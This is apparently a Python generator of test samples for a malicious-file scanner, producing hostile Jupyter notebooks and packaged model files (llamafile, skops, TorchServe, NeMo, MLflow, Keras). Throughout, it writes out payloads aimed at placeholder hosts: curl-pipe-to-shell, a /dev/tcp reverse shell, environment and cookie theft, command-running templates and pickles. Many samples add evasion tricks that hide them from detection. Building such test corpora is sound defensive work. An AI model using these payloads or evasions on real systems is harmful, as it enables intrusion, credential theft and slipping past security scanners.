"""Hostile notebooks, and packaged models around them: llamafiles, skops, TorchServe, NeMo and MLflow files."""

import base64
import io
import json
import struct
import tarfile
import zipfile

from malicious_ops import HOST, PYTHON, SHELL, URL, Call, Glob, dump

GROUP = "notebook"


def notebook(cells, metadata=None, version=4):
    """A notebook of cells: a text is code, a pair is code and the data of its output."""
    out = []
    for one in cells:
        source, data = one if isinstance(one, tuple) else (one, None)
        cell = {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": source.splitlines(True), "outputs": []}
        if data:
            cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": data}]
        out.append(cell)
    if metadata is None:
        metadata = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}
    if version == 3:
        sheets = [{"cell_type": "code", "language": "python", "collapsed": False, "input": cell["source"], "outputs": []} for cell in out]
        return json.dumps({"metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": sheets}]}, indent=1)
    return json.dumps({"cells": out, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}, indent=1)


def code():
    """Yields slug, technique, cells."""
    fetch = f"curl -s {URL} | sh"
    b64 = base64.b64encode(f"import os\nos.system({SHELL!r})\n".encode()).decode()
    yield "system", "command of Python", ["import os", f"os.system({SHELL!r})"]
    yield "bang", "command of the shell", [f"!{fetch}"]
    yield "bang-variable", "command put together over cells", [f"cmd = 'curl -s {URL}'", "run = cmd + ' | sh'", "!{run}"]
    yield "bang-dollar", "command by a name", [f"cmd = '{fetch}'\n!$cmd"]
    yield "bang-continued", "command over two lines", [f"!curl -s {URL} \\\n  | bash"]
    yield "bang-indented", "command in a branch", [f"if True:\n    !{fetch}"]
    yield "bang-assigned", "output of a command run as code", [f"x = !curl -s {URL}\nexec('\\n'.join(x))"]
    yield "bang-expression", "code between braces of a command", [f"!echo {{__import__('os').system('{fetch}')}}"]
    yield "magic-system", "`%system`", [f"%system {fetch}"]
    yield "magic-sx", "`%sx` assigned", [f"x = %sx {fetch}"]
    yield "cell-bash", "`%%bash`", [f"%%bash\nset -e\n{fetch}"]
    yield "cell-script", "`%%script`", [f"%%script bash --no-raise-error\n{fetch}"]
    yield "cell-colab", "`%%bash` below a title", [f"#@title Set up\n%%bash\n{fetch}"]
    yield "cell-capture", "`%%capture` around a command", [f"%%capture\n%%time\n!{fetch}"]
    yield "cell-python", "`%%python` in another process", [f"%%python3\nimport os\nos.system({SHELL!r})"]
    yield "cell-write-startup", "start-up file of the shell written", [f"%%writefile ~/.bashrc\n{SHELL}"]
    yield "cell-write-module", "module written and imported", [f"%%writefile helper.py\nimport os\nos.system({SHELL!r})", "import helper"]
    yield "timeit-statement", "statement of `%timeit`", [f"import os\n%timeit -n 1 os.system({SHELL!r})"]
    yield "auto-call", "call without brackets", [f"import os\n;os.system {SHELL}"]
    yield "prompt", "pasted session", [f">>> import os\n>>> os.system({SHELL!r})"]
    yield "swallowed", "open string before the attack", ["x = '''", f"import os\nos.system({SHELL!r})"]
    yield "base64", "encoded code", [f"import base64\nexec(base64.b64decode('{b64}'))"]
    yield "run-cell", "code given to the shell", [f"get_ipython().run_cell(\"import os; os.system('{SHELL}')\")"]
    yield "fetch-exec", "code fetched and run", ["import requests", f"exec(requests.get({URL!r}).text)"]
    yield "environment-sent", "environment sent", ["import os, requests", f"requests.post({URL!r}, json=dict(os.environ))"]
    yield "pickle-fetched", "pickle fetched and loaded", ["import pickle, urllib.request", f"pickle.loads(urllib.request.urlopen({URL!r}).read())"]
    yield "reverse-shell", "shell to another machine", [f"!bash -i >& /dev/tcp/{HOST}/4444 0>&1"]


def outputs():
    """Yields slug, technique, data of an output."""
    yield "output-kernel", "script gives code to the kernel", {"application/javascript": [f"Jupyter.notebook.kernel.execute(\"import os; os.system('{SHELL}')\")"]}
    yield "output-kernel-html", "script in a page", {"text/html": f"<div><script>IPython.notebook.kernel.execute(\"__import__('os').system('{SHELL}')\")</script></div>"}
    yield "output-terminal", "script opens a terminal", {"text/html": "<script>fetch('/api/terminals', {method: 'POST', headers: {'X-XSRFToken': document.cookie}})</script>"}
    yield "output-cookie", "script sends cookies", {"text/html": f"<script>new Image().src='//{HOST}/?c=' + document.cookie</script>"}
    yield "output-handler", "handler of a broken picture", {"text/html": f"<img src=x onerror=\"fetch('//{HOST}/?' + document.cookie)\">"}
    yield "output-svg", "script in a drawing", {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><script>Jupyter.notebook.kernel.execute(\"import os; os.system('{SHELL}')\")</script></svg>"}
    yield "output-decoded", "decoded script", {"text/html": f"<script>eval(atob('{base64.b64encode(b'console.log(1)').decode()}'))</script>"}
    yield "output-form", "form for a password", {"text/html": f"<form action='http://{HOST}/'>Session expired <input type='password' name='p'></form>"}


def zipped(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def gguf(template):
    def text(value):
        value = value.encode()
        return struct.pack("<Q", len(value)) + value
    pairs = text("general.architecture") + struct.pack("<I", 8) + text("llama") + text("tokenizer.chat_template") + struct.pack("<I", 8) + text(template)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + pairs


def packages(corpus):
    template = "{{ cycler.__init__.__globals__.os.popen('" + SHELL + "').read() }}"
    program = b"MZqFpD='\n" + b"\0" * 503
    corpus.add("llamafile", "llamafile-template", "model.llamafile", program + zipped([(".args", b"-m\nmodel.gguf\n"), ("model.gguf", gguf(template))]), "template of the model inside runs code")
    corpus.add("llamafile", "llamafile-as-gguf", "model.gguf", program + zipped([(".args", b"-m\nmodel.gguf\n"), ("model.gguf", gguf("x"))]), "program named as a model")
    corpus.add("llamafile", "llamafile-pickle", "model.llamafile",
               program + zipped([("model.gguf", gguf("x")), ("extra.pkl", dump(Call(Glob("os", "system"), SHELL)))]), "pickle beside the model inside")

    def schema(slug, body, technique, advisory=None):
        corpus.add("skops", "skops-" + slug, "model.skops", zipped([("schema.json", body)]), technique, advisory=advisory)

    old = {"__class__": "function", "__module__": "numpy", "__loader__": "FunctionNode", "protocol": 0, "content": {"module_path": "os", "function": "system"}}
    schema("old-function", json.dumps(old).encode(), "function named in the content, as old releases read it")
    evil = {"__class__": "system", "__module__": "posix", "__loader__": "TypeNode", "protocol": 2}
    schema("byte-order-mark", b"\xef\xbb\xbf" + json.dumps(evil).encode(), "schema behind a byte order mark")
    schema("wide", json.dumps(evil).encode("utf-16"), "schema in UTF-16")
    schema("padded", b" " * 8192 + json.dumps(evil).encode(), "schema behind white space")

    def mar(slug, manifest, technique, extra=()):
        corpus.add("torchserve", slug, "model.mar", zipped([("MAR-INF/MANIFEST.json", manifest), *extra]), technique)

    plain = json.dumps({"runtime": "python", "model": {"modelName": "m", "handler": "handler.py", "modelVersion": "1.0"}}).encode()
    mar("mar-handler-code", plain, "handler runs a command when it is imported", [("handler.py", f"import os\nos.system({SHELL!r})\n".encode())])
    mar("mar-padded", b"\n" * 8192 + plain.replace(b"handler.py", b"subprocess:call"), "manifest behind white space")
    mar("mar-requirements", plain, "package from elsewhere", [("handler.py", b"pass\n"), ("requirements.txt", f"--extra-index-url http://{HOST}/simple\nmodel-helper @ {URL}/x.whl\n".encode())])

    def nemo(slug, entries, technique):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as archive:
            for name, data in entries:
                info = tarfile.TarInfo(name)
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
        corpus.add("nemo", slug, "model.nemo", out.getvalue(), technique, textual=True)

    honest = b"target: nemo.collections.asr.models.EncDecCTCModel\n"
    nemo("nemo-weights-pickle", [("./model_config.yaml", honest), ("./model_weights.ckpt", dump(Call(Glob("os", "system"), SHELL)))], "pickle as weights")
    nemo("nemo-late-target", [("./model_config.yaml", honest + b"# words\n" * 2000 + b"optim:\n  _target_: os.system\n  command: echo\n"), ("./model_weights.ckpt", b"\x80\x02}q\x00.")], "_target_ far below")
    late = "# words\n" * 2000 + "artifact_path: model\nflavors:\n  python_function:\n    loader_module: subprocess\n"
    corpus.add("mlflow", "mlflow-late-loader", "MLmodel", late.encode(), "loader far below", textual=True)
    broken = zipped([("metadata.json", b"{}"), ("config.json", b"{'class_name': 'Lambda'}"), ("model.weights.h5", dump(Call(Glob("os", "system"), SHELL)))])
    corpus.add("keras", "keras-broken-configuration", "model.keras", broken, "configuration that is no JSON beside a pickle")


def advisories():
    """Yields slug, technique, page, advisory: how front ends came to run the scripts of outputs."""
    run = f"Jupyter.notebook.kernel.execute('import os; os.system(\"{SHELL}\")')".replace('"', "&quot;")
    yield "form-action", "action of a form", f'<form id="f" action="javascript:{run}"></form><button form="f">Show the table</button>', "CVE-2021-32797"
    yield "sanitizer", "markup that the sanitizer passed on", f'<math><mtext><img src="x" onerror="{run}"></mtext></math>', "CVE-2021-32798"
    yield "converted", "output shown as a page by nbconvert", f'<img src="x" onerror="fetch(\'//{HOST}/?\' + document.cookie)">', "CVE-2021-32862"


def build(corpus):
    """Adds the samples."""
    packages(corpus)
    for slug, technique, cells in code():
        corpus.add(GROUP, "notebook-" + slug, "run.ipynb", notebook(cells).encode(), technique, textual=True)
    for slug, technique, data in outputs():
        corpus.add(GROUP, "notebook-" + slug, "run.ipynb", notebook([("plot()", data)]).encode(), technique, textual=True)
    for slug, technique, page, advisory in advisories():
        corpus.add(GROUP, "notebook-" + slug, "run.ipynb", notebook([("plot()", {"text/html": page})]).encode(), technique, advisory, textual=True)
    attack = ["import os", f"os.system({SHELL!r})"]
    corpus.add(GROUP, "notebook-version-three", "run.ipynb", notebook(attack, version=3).encode(), "old version", textual=True)
    corpus.add(GROUP, "notebook-other-language", "run.ipynb", notebook(attack, {"kernelspec": {"name": "python3", "language": "R"}}).encode(), "language that the kernel is not", textual=True)
    corpus.add(GROUP, "notebook-named-json", "data.json", notebook(attack).encode(), "under another name", textual=True)
    escaped = notebook(attack).replace("os.system", "\\u006fs.system").encode()
    corpus.add(GROUP, "notebook-escaped", "run.ipynb", escaped, "letters escaped", textual=True)
    twice = notebook(attack).replace('"source": [\n    "os.system', f'"source": ["{PYTHON}"], "source": [\n    "os.system').encode()
    corpus.add(GROUP, "notebook-repeated", "run.ipynb", twice, "source that stands twice", textual=True)
    many = notebook(attack).replace('{\n "cells"', "{" + "".join(f'"k{n}": 1, ' for n in range(100)) + '\n "cells"').encode()
    corpus.add(GROUP, "notebook-many-keys", "run.ipynb", many, "keys behind many others", textual=True)
